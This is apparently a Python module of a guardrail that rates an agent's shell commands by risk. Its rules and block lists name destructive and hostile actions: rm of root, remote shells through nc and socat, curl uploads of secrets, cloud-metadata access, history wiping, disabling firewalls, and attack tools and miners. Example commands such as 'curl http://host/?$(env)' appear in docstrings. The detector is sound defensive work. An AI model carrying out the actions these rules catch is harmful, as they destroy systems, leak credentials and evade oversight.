"""Rules for calls of programs: by name what to look at, and what must not be among the arguments.

HIGH and CRITICAL hold only what an agent has no honest reason for, because they deny; MEDIUM is for a person
to decide.
"""

import re
from collections.abc import Callable, Mapping
from typing import Final, TypeAlias

from security.guardian.calls import FETCHERS, PRINTERS, SHELLS, Call, names
from security.guardian.places import dangers, is_root
from security.verdict import Level

Found: TypeAlias = tuple[str, Level] | None
Rule: TypeAlias = Callable[[Call], Found]

MEDIUM, HIGH, CRITICAL = Level.MEDIUM, Level.HIGH, Level.CRITICAL
HERE: Final = frozenset({".", "..", "*", "./", "../", "./*", "../*", ".*", "./.", "{}/"})
OPEN_MODE: Final = re.compile(r"0?777|[augo]*[=+]rwx|[ao]+\+w")
SUID_MODE: Final = re.compile(r"[ugo]*\+[rwxt]*s[rwxt]*|0?[2467][0-7]{3}")
LOOPBACK: Final = re.compile(r"(?:^|[/@=])(?:localhost|127\.\d+\.\d+\.\d+|\[::1\]|0\.0\.0\.0)(?=[:/]|$)")
METADATA: Final = re.compile(r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200")
UPLOADS: Final = (
    "-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form",
    "-T", "--upload-file", "--post-file", "--body-file", "--json",
)  # fmt: skip
GUARDS: Final = re.compile(
    r"(?:firewalld|ufw|iptables|nftables|auditd|apparmor|fail2ban|clamav|falcon|rsyslog)\S*"
)
ARCHIVERS: Final = names("tar zip 7z gzip env printenv mysqldump pg_dump find set")
RESOLVERS: Final = frozenset({"dig", "nslookup", "host", "ping", "drill"})


def delete(call: Call) -> Found:
    """`rm` and its kin."""
    targets, is_deep = call.plain, call.has("-r", "-R", "--recursive")
    if call.has("--no-preserve-root"):
        return "delete-system", CRITICAL
    if any(is_root(word) and (is_deep or "*" in word) for word in targets):
        return "delete-system", CRITICAL
    kinds = dangers(targets)
    if "disk" in kinds:
        return "write-disk", CRITICAL
    if kinds & {"log", "history"}:
        return "wipe-history", HIGH
    if kinds & {"system", "startup", "secret"}:
        return "delete-system", HIGH
    if is_deep and any(one.name == "find" and any(map(is_root, one.plain)) for one in call.sources()):
        return "delete-system", HIGH
    return ("delete-all", MEDIUM) if is_deep and HERE & set(targets) else None


def find(call: Call) -> Found:
    """`find / -delete`."""
    if not any(map(is_root, call.plain[:3])):
        return None
    words = set(call.args)
    if "-delete" in words or ({"-exec", "-execdir"} & words and {"rm", "shred"} & words):
        return "delete-system", CRITICAL
    if "-perm" in call.args and any("4000" in word or "u=s" in word for word in call.args):
        return "privilege-search", MEDIUM
    return None


def change_mode(call: Call) -> Found:
    """`chmod`: what is opened to everybody, and what runs as its owner."""
    if not call.args:
        return None
    modes = [word for word in call.args if not word.startswith("-")][:1]
    is_open = any(OPEN_MODE.fullmatch(mode) for mode in modes)
    if any(SUID_MODE.fullmatch(mode) for mode in modes):
        return "set-user-id", HIGH
    if any(map(is_root, call.plain[1:])) and (is_open or call.has("-R", "--recursive")):
        return "open-system", CRITICAL
    if is_open and dangers(call.plain[1:]) & {"system", "secret", "startup"}:
        return "open-system", HIGH
    return ("open-to-all", MEDIUM) if is_open and call.has("-R", "--recursive") else None


def change_owner(call: Call) -> Found:
    """`chown -R` of a system."""
    is_deep = call.has("-R", "--recursive")
    if any(map(is_root, call.plain[1:])) and is_deep:
        return "open-system", CRITICAL
    return ("open-system", HIGH) if dangers(call.plain[1:]) & {"system", "secret"} else None


def copy_raw(call: Call) -> Found:
    """`dd`."""
    targets = [word[3:] for word in call.args if word.startswith("of=")]
    if "disk" in dangers(targets):
        return "write-disk", CRITICAL
    if dangers(targets) & {"system", "startup", "secret"}:
        return "write-system", HIGH
    return (
        ("read-disk", HIGH)
        if "disk" in dangers(word[3:] for word in call.args if word[:3] == "if=")
        else None
    )


def format_disk(call: Call) -> Found:
    """What writes partitions and file systems."""
    return ("write-disk", CRITICAL) if any(word.startswith("/dev/") for word in call.plain) else None


def move(call: Call) -> Found:
    """`mv` of a system, or into nothing."""
    if any(map(is_root, call.plain[:-1])):
        return "delete-system", CRITICAL
    return ("delete-system", HIGH) if call.plain[-1:] == ("/dev/null",) else None


def cron(call: Call) -> Found:
    """`crontab`: everything but a look."""
    if call.has("-l") or not (call.args or call.step.source or call.step.data or call.step.redirects):
        return None
    return "persistence", HIGH


def service(call: Call) -> Found:
    """`systemctl`, `service`, `launchctl`."""
    words = set(call.args)
    if words & {"poweroff", "reboot", "halt", "kexec", "rescue", "emergency"}:
        return "shut-down", HIGH
    if words & {"stop", "disable", "mask"} and any(map(GUARDS.fullmatch, words)):
        return "disarm", HIGH
    return ("persistence", MEDIUM) if words & {"enable", "link", "load", "bootstrap", "edit"} else None


def connect(call: Call) -> Found:
    """`nc` and its kin: shells over the network, and data into it."""
    if call.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
        return "remote-shell", HIGH
    sources = {one.name for one in call.sources()}
    if sources & SHELLS:
        return "remote-shell", HIGH
    if call.has("-l", "--listen"):
        return "listens", MEDIUM
    if not call.plain or _is_local(call):
        return None
    if sources & ARCHIVERS:
        return "send-out", HIGH
    is_fed = bool(sources) or any(operator == "<" for operator, _ in call.step.redirects)
    return ("send-out", MEDIUM) if is_fed else None


def relay(call: Call) -> Found:
    """`socat` with a program at one end."""
    if any(re.match(r"(?:exec|system|shell)[:,]", word, re.IGNORECASE) for word in call.args):
        return "remote-shell", HIGH
    return connect(call)


def fetch(call: Call) -> Found:
    """`curl` and `wget`: what they send, where they ask, where they write."""
    if any(METADATA.search(word) for word in call.args):
        return "cloud-credentials", HIGH
    if any("docker.sock" in word for word in call.args):
        return "container-escape", HIGH
    written = dangers(word for word in call.args if "://" not in word) & {"startup", "system"}
    if written and call.has("-o", "-O", "--output", "--output-document", "-P"):
        return "persistence", HIGH
    if _is_local(call):
        return None
    files = _uploaded(call)
    if dangers(files) & {"secret", "private", "history"}:
        return "send-out", HIGH
    if {one.name for one in call.sources()} & ARCHIVERS and files:
        return "send-out", HIGH
    return ("send-out", MEDIUM) if files else None


def _uploaded(call: Call) -> list[str]:
    """The files that a fetcher is told to send."""
    found = []
    for word, after in zip(call.args, (*call.args, "")[1:], strict=True):
        name, sign, value = word.partition("=")
        if name in UPLOADS and sign and name.startswith("--"):
            after = value
        elif word not in UPLOADS:
            continue
        if name in ("-T", "--upload-file", "--post-file", "--body-file"):
            found.append(after)
        elif "@" in after:
            found.append(after.partition("@")[2].partition(";")[0])
    return found


def _is_local(call: Call) -> bool:
    return any(LOOPBACK.search(word) for word in call.args)


def resolve(call: Call) -> Found:
    """Names that are asked for and carry the output of a program."""
    return ("send-out", HIGH) if any("$()" in word for word in call.args) else None


def container(call: Call) -> Found:
    """`docker run` that is no wall any more."""
    text = " ".join(call.args)
    is_open = re.search(
        r"--privileged|--pid[= ]host|docker\.sock|(?:-v|--volume)[= ]?/:|--mount\S* ?\S*source=/,", text
    )
    return ("container-escape", HIGH) if is_open else None


def users(call: Call) -> Found:
    """Accounts of the system."""
    words = " ".join(call.args)
    if call.name == "chpasswd" or re.search(r"(?:^| )(?:sudo|wheel|admin|root|docker)(?: |$)|-u 0\b", words):
        return "account", HIGH
    return "account", MEDIUM


def history(call: Call) -> Found:
    """`history -c`."""
    return ("wipe-history", HIGH) if call.has("-c", "-d", "-w") else None


def forget_history(call: Call) -> Found:
    """`unset HISTFILE`, `export HISTSIZE=0`, `set +o history`."""
    words = " ".join(call.args)
    if re.search(r"\bHIST(?:FILE\b(?!=[^/\s]*/(?!dev/null))|(?:FILE)?SIZE=0)|\+o history", words):
        return "wipe-history", HIGH
    return ("preload", MEDIUM) if "LD_PRELOAD=" in words else None


def firewall(call: Call) -> Found:
    """What takes a wall down."""
    words = set(call.args)
    is_down = words & {"-F", "--flush", "flush", "disable", "reset", "0", "Permissive", "-X", "-D"}
    return ("disarm", HIGH) if is_down else ("disarm", MEDIUM) if call.args else None


def kill(call: Call) -> Found:
    """Every process at once."""
    targets = call.args[1:]
    is_first = "1" in targets and call.args[0] in ("-9", "-KILL", "-SIGKILL")
    return ("kill-all", HIGH) if call.name == "killall5" or "-1" in targets or is_first else None


def later(call: Call) -> Found:
    """`at now + 1 hour`."""
    words = " ".join(call.args)
    is_set = re.match(
        r"-[fmt]\b|now\b|noon\b|midnight\b|tomorrow\b|\d{1,2}(?::?\d\d)?(?: ?[ap]m)?(?: |$)", words
    )
    return ("persistence", MEDIUM) if is_set else None


def archive(call: Call) -> Found:
    """`tar` that runs programs."""
    is_running = any(
        word.startswith(("--checkpoint-action=exec", "--to-command", "--use-compress-program"))
        for word in call.args
    )
    return ("runs-from-archive", HIGH) if is_running else None


def always(name: str, level: Level) -> Rule:
    """A program that is never called in passing."""
    return lambda call: (name, level)


def with_arguments(name: str, level: Level) -> Rule:
    """A program that does nothing without arguments."""
    return lambda call: (name, level) if call.args and not call.has("--help", "--version") else None


_TABLE: Final[tuple[tuple[str, Rule], ...]] = (
    ("rm unlink shred srm rmdir", delete),
    ("find", find),
    ("chmod", change_mode),
    ("chown chgrp", change_owner),
    ("dd dcfldd", copy_raw),
    ("mkfs mke2fs mkswap wipefs fdisk sfdisk cfdisk gdisk sgdisk parted blkdiscard hdparm", format_disk),
    ("mv", move),
    ("crontab", cron),
    ("at batch", later),
    ("systemctl service launchctl", service),
    ("update-rc.d chkconfig rc-update", always("persistence", HIGH)),
    ("nc ncat netcat telnet", connect),
    ("socat", relay),
    ("curl wget http https httpie axel aria2c", fetch),
    (" ".join(RESOLVERS), resolve),
    ("docker podman nerdctl", container),
    ("nsenter", always("container-escape", HIGH)),
    ("useradd adduser usermod passwd chpasswd visudo groupmod gpasswd", users),
    ("history", history),
    ("unset export set declare", forget_history),
    ("iptables ip6tables nft ufw setenforce auditctl", firewall),
    ("kill killall5", kill),
    ("shutdown reboot halt poweroff telinit", always("shut-down", HIGH)),
    ("insmod modprobe rmmod kexec", with_arguments("kernel", HIGH)),
    ("sysctl mount umount", with_arguments("kernel", MEDIUM)),
    ("xmrig minerd cpuminer ethminer xmr-stak cgminer bfgminer nbminer phoenixminer", always("miner", HIGH)),
    ("mimikatz lazagne linpeas.sh linpeas winpeas msfvenom msfconsole", always("attack-tool", HIGH)),
    ("tar", archive),
    ("ngrok cloudflared chisel frpc", with_arguments("tunnel", MEDIUM)),
)  # fmt: skip
RULES: Final[Mapping[str, Rule]] = {name: rule for group, rule in _TABLE for name in group.split()}


def of_program(call: Call) -> Found:
    """What the rule for a program says."""
    name = "mkfs" if call.name.startswith("mkfs.") else call.name
    if name == "init" and call.args[:1] in (("0",), ("6",)):
        return "shut-down", HIGH
    rule = RULES.get(name)
    return rule(call) if rule is not None else None


def carries_out(call: Call) -> Found:
    """What stands in the words of a fetcher: `curl http://host/?$(env)`."""
    host = call.host
    if host is None or host.name not in FETCHERS or _is_local(host):
        return None
    if call.name in ARCHIVERS:
        return "send-out", HIGH
    return ("send-out", MEDIUM) if call.name in PRINTERS - {"echo", "printf"} | {"base64", "xxd"} else None
